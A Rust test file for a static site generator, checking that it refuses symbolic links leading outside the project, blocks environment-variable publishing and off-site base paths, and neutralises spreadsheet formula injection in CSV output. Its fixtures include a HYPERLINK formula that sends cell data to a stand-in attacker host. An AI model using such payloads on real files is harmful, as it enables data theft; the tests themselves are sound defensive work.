//! Hostile projects. A repository is built as it is cloned (on CI, say), so nothing from
//! outside the project may be published or echoed in a message (symbolic links, `get_env`),
//! links may not point at another site (`base_path`), and the open data must stay inert when
//! opened in a spreadsheet (formula injection) and exact (large numbers).
#![cfg(unix)] // symbolic links as git checks them out

mod common;

use std::ffi::OsStr;
use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;

use common::*;

/// Text that lives only outside the project: it must never show up in a message or the site.
const SECRET: &str = "SECRET_FROM_OUTSIDE";

/// A folder outside the project holding a file and a folder of secrets, like `/etc` or `~/.ssh`.
struct Outside(tempfile::TempDir);

impl Outside {
    fn new() -> Outside {
        let dir = tempfile::tempdir().unwrap();
        // YAML with an unknown field, so a loader that read it would quote it in its error.
        fs::write(dir.path().join("passwd"), format!("{SECRET}: root:x:0:0\n")).unwrap();
        fs::create_dir(dir.path().join("folder")).unwrap();
        fs::write(
            dir.path().join("folder/secret.yaml"),
            format!("{SECRET}: 1\n"),
        )
        .unwrap();
        fs::write(dir.path().join("folder/secret.txt"), SECRET).unwrap();
        Outside(dir)
    }

    fn file(&self) -> std::path::PathBuf {
        self.0.path().join("passwd")
    }

    fn folder(&self) -> std::path::PathBuf {
        self.0.path().join("folder")
    }
}

/// Runs `commands` on the project at `root`: each must fail as `expected` says (first line:
/// where), change nothing, and never print the secret.
fn refused(commands: &[&str], root: &Path, expected: &[&str]) {
    let expected: Vec<String> = expected.iter().map(|s| s.to_string()).collect();
    let problems = expect_failure_of(commands, root, &expected);
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    for cmd in commands {
        let r = run(cmd, root).unwrap();
        assert!(
            !r.stderr.contains(SECRET),
            "{cmd} echoed the secret:\n{}",
            r.stderr
        );
    }
}

/// A project that uses the theme `evil`, made by `f` (called with the project root).
fn with_theme(f: impl FnOnce(&Path)) -> tempfile::TempDir {
    minimal_with(|root| {
        fs::write(root.join("shinchoku.yaml"), "theme: evil\n").unwrap();
        fs::create_dir_all(root.join("themes/evil/templates")).unwrap();
        fs::create_dir_all(root.join("themes/evil/static")).unwrap();
        f(root)
    })
}

const OUTSIDE_HELP: &str = "help: links may only point inside the project folder";

#[test]
fn a_content_file_linked_outside_the_project_is_refused_unread() {
    let outside = Outside::new();
    let tmp =
        minimal_with(|root| symlink(outside.file(), root.join("content/units/zz.yaml")).unwrap());
    refused(
        &["check", "build"],
        tmp.path(),
        &[
            "content/units/zz.yaml:",
            "leads outside the project",
            OUTSIDE_HELP,
        ],
    );
}

#[test]
fn a_content_folder_linked_outside_the_project_is_not_entered() {
    let outside = Outside::new();
    let tmp =
        minimal_with(|root| symlink(outside.folder(), root.join("content/units/more")).unwrap());
    refused(
        &["check", "build"],
        tmp.path(),
        &[
            "content/units/more:",
            "leads outside the project",
            OUTSIDE_HELP,
        ],
    );
}

#[test]
fn the_plan_settings_or_whole_content_linked_outside_are_refused() {
    let outside = Outside::new();
    // Each: (path to replace by a link, what the link points to).
    let cases = [
        ("content/plan.yaml", outside.file()),
        ("shinchoku.yaml", outside.file()),
        ("content", outside.folder()),
    ];
    for (rel, target) in cases {
        let tmp = minimal_with(|root| {
            let at = root.join(rel);
            if at.is_dir() {
                fs::remove_dir_all(&at).unwrap();
            } else if at.exists() {
                fs::remove_file(&at).unwrap();
            }
            symlink(&target, &at).unwrap();
        });
        let errors = run("check", tmp.path()).unwrap().stderr;
        assert_eq!(
            errors.matches("leads outside the project").count(),
            1,
            "{rel}: one error, for the link itself:\n{errors}"
        );
        refused(
            &["check", "build"],
            tmp.path(),
            &[
                &format!("{rel}:"),
                "leads outside the project",
                OUTSIDE_HELP,
            ],
        );
    }
}

#[test]
fn links_that_stay_inside_the_project_are_followed() {
    let tmp = minimal_with(|root| {
        // A unit file and the whole indicators folder kept elsewhere in the project.
        fs::create_dir_all(root.join("shared")).unwrap();
        fs::rename(
            root.join("content/units/I-1-1-1.yaml"),
            root.join("shared/I-1-1-1.yaml"),
        )
        .unwrap();
        symlink(
            "../../shared/I-1-1-1.yaml",
            root.join("content/units/I-1-1-1.yaml"),
        )
        .unwrap();
        fs::rename(
            root.join("content/indicators"),
            root.join("shared/indicators"),
        )
        .unwrap();
        symlink("../shared/indicators", root.join("content/indicators")).unwrap();
    });
    let problems = expect_success(tmp.path(), &["3 unit policies, 2 indicators".into()]);
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

#[test]
fn a_link_to_itself_is_a_loop_not_a_hang() {
    let tmp = minimal_with(|root| symlink("zz.yaml", root.join("content/units/zz.yaml")).unwrap());
    refused(
        &["check", "build"],
        tmp.path(),
        &["content/units/zz.yaml:", "symbolic link loop"],
    );
}

#[test]
fn a_theme_static_folder_linked_outside_is_not_published() {
    let outside = Outside::new();
    let tmp = with_theme(|root| {
        fs::remove_dir(root.join("themes/evil/static")).unwrap();
        symlink(outside.folder(), root.join("themes/evil/static")).unwrap();
    });
    refused(
        &["build"],
        tmp.path(),
        &[
            "themes/evil/static:",
            "leads outside the project",
            OUTSIDE_HELP,
        ],
    );
}

#[test]
fn a_theme_folder_or_file_linked_outside_is_refused() {
    let outside = Outside::new();
    let tmp = with_theme(|root| {
        fs::remove_dir_all(root.join("themes/evil")).unwrap();
        symlink(outside.folder(), root.join("themes/evil")).unwrap();
    });
    refused(
        &["build"],
        tmp.path(),
        &["themes/evil:", "leads outside the project", OUTSIDE_HELP],
    );
    for rel in [
        "themes/evil/static/key.txt",
        "themes/evil/templates/404.html",
    ] {
        let tmp = with_theme(|root| symlink(outside.file(), root.join(rel)).unwrap());
        refused(
            &["build"],
            tmp.path(),
            &[
                &format!("{rel}:"),
                "leads outside the project",
                OUTSIDE_HELP,
            ],
        );
    }
}

#[test]
fn theme_links_inside_the_project_are_followed() {
    let tmp = with_theme(|root| {
        fs::create_dir_all(root.join("shared")).unwrap();
        fs::write(root.join("shared/extra.css"), "p { color: teal }\n").unwrap();
        symlink(
            "../../../shared/extra.css",
            root.join("themes/evil/static/extra.css"),
        )
        .unwrap();
    });
    let problems = expect_success(tmp.path(), &[]);
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    let published = fs::read_to_string(tmp.path().join("output/assets/extra.css")).unwrap();
    assert_eq!(published, "p { color: teal }\n");
}

#[test]
fn a_theme_cannot_publish_environment_variables() {
    let tmp = with_theme(|root| {
        fs::write(
            root.join("themes/evil/templates/404.html"),
            "<p>{{ get_env(name=\"SHINCHOKU_TEST_TOKEN\") }}</p>\n",
        )
        .unwrap();
    });
    let token = "tok-3c1e-not-for-publishing";
    let args: [&OsStr; 2] = ["build".as_ref(), tmp.path().as_ref()];
    let r = shinchoku(&args, &[("SHINCHOKU_TEST_TOKEN", token)]).unwrap();
    assert_eq!(r.code, Some(1), "{}", r.stderr);
    assert!(r.stderr.contains("get_env is disabled"), "{}", r.stderr);
    assert!(!r.stderr.contains(token));
    assert!(!tmp.path().join("output").exists(), "nothing is written");
}

#[test]
fn a_protocol_relative_base_path_is_refused() {
    // `//host/` and what a browser reads as such: it drops tabs and newlines from URLs.
    for bad in ["//evil.example/", "/\t/evil.example/", "/\n/evil.example/"] {
        let tmp = minimal_with(|_| {});
        let args: [&OsStr; 4] = [
            "build".as_ref(),
            tmp.path().as_ref(),
            "--base-path".as_ref(),
            bad.as_ref(),
        ];
        let r = shinchoku(&args, &[]).unwrap();
        assert_ne!(r.code, Some(0), "{bad:?} accepted");
        assert!(r.stderr.contains("--base-path"), "{bad:?}: {}", r.stderr);
        assert!(
            r.stderr.contains("write it like /sangyo/shinchoku/"),
            "{bad:?}: {}",
            r.stderr
        );
        assert!(!tmp.path().join("output").exists(), "nothing is written");

        fs::write(
            tmp.path().join("shinchoku.yaml"),
            format!("base_path: {}\n", serde_json::to_string(bad).unwrap()),
        )
        .unwrap();
        refused(
            &["check", "build"],
            tmp.path(),
            &[
                "shinchoku.yaml:1:",
                "`base_path`:",
                "help: write it like /sangyo/shinchoku/",
            ],
        );
    }
}

/// An indicator whose every text cell would be a formula in a spreadsheet, with a negative
/// actual (a number, which must stay one) and a figure beyond f64's 17 significant digits.
const FORMULA_INDICATOR: &str = r#"no: 1
name: '=HYPERLINK("http://evil.example/?x="&A1,"click")'
renamed:
  - {from: R5, name: "-2+3"}
unit: "+1"
decimals: 1
direction: higher_is_better
unit_policies: [I-1-(1)-①, I-1-(1)-②]
baseline:
  - {value: 3665}
years:
  R3: {target: 1600, actual: -2000, note: "-1+1"}
  R4: {target: 1700, actual: "123456789012345.6789", note: "\t=1+1"}
  R5: {target: 1800, pending: "@SUM(A1:A9)"}
"#;

fn built_with_formulas() -> tempfile::TempDir {
    let tmp = minimal_with(|root| {
        fs::write(root.join("content/indicators/01.yaml"), FORMULA_INDICATOR).unwrap();
    });
    let r = run("build", tmp.path()).unwrap();
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    tmp
}

/// Cells of a CSV file (RFC 4180: quoted fields, "" inside quotes), BOM removed.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    rows
}

#[test]
fn csv_text_cells_cannot_run_as_formulas_and_numbers_stay_numbers() {
    let tmp = built_with_formulas();
    let csv = fs::read_to_string(tmp.path().join("output/data/indicators.csv")).unwrap();
    let rows = csv_rows(&csv);
    let header = &rows[0];
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let kpi1: Vec<&Vec<String>> = rows[1..].iter().filter(|r| r[0] == "1").collect();
    assert_eq!(kpi1.len(), 3);
    let numeric = [
        "指標番号",
        "西暦年度",
        "基準値",
        "基準値の西暦年度",
        "目標値",
        "実績値",
        "年度末見込値",
        "達成率・進捗率（%）",
    ];
    for row in rows[1..].iter() {
        for (name, cell) in header.iter().zip(row) {
            if numeric.contains(&name.as_str()) {
                assert!(
                    cell.is_empty() || cell.parse::<f64>().is_ok(),
                    "{name}: {cell:?} is not a plain number"
                );
            } else {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{name}: {cell:?} would run as a formula"
                );
            }
        }
    }
    // Neutralised as OWASP recommends: a leading ', the text otherwise kept.
    let (r3, r4, r5) = (kpi1[0], kpi1[1], kpi1[2]);
    assert_eq!(
        r3[column("指標名")],
        "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
    );
    assert_eq!(r3[column("単位")], "'+1");
    // (A note that starts with a carriage return is refused as a control character at load:
    // tests/bad-input/control-*.)
    assert_eq!(r3[column("備考")], "'-1+1");
    assert_eq!(r4[column("備考")], "'\t=1+1");
    assert_eq!(r5[column("指標名")], "'-2+3");
    assert_eq!(r5[column("判定できない理由")], "'@SUM(A1:A9)");
    assert_eq!(r3[column("実績値")], "-2000");
    assert_eq!(r3[column("達成率・進捗率（%）")], "-125.0");
}

#[test]
fn json_numbers_are_the_exact_decimals() {
    let tmp = built_with_formulas();
    let json = fs::read_to_string(tmp.path().join("output/data/report.json")).unwrap();
    serde_json::from_str::<serde_json::Value>(&json).expect("report.json is JSON");
    assert!(json.contains("\"actual\": 123456789012345.6789,"), "{json}");
    assert!(json.contains("\"actual\": -2000,"));
    let csv = fs::read_to_string(tmp.path().join("output/data/indicators.csv")).unwrap();
    assert!(
        csv.contains(",123456789012345.6789,"),
        "the CSV has the same figure"
    );
}

#[test]
fn a_narrative_line_starting_with_a_tag_is_still_markdown() {
    let tmp = minimal_with(|root| {
        let path = root.join("content/units/I-1-1-1.yaml");
        let text = fs::read_to_string(&path).unwrap().replacen(
            "actual: 補助金を交付した。",
            "actual: \"<div>注</div> **重要** A &amp; B\"",
            1,
        );
        fs::write(&path, text).unwrap();
    });
    let r = run("build", tmp.path()).unwrap();
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    let page = fs::read_to_string(tmp.path().join("output/units/i-1-1-1.html")).unwrap();
    assert!(
        page.contains("&lt;div&gt;注&lt;/div&gt; <strong>重要</strong> A &amp; B"),
        "the tag shown as text, the rest Markdown, the entity escaped once:\n{page}"
    );
}
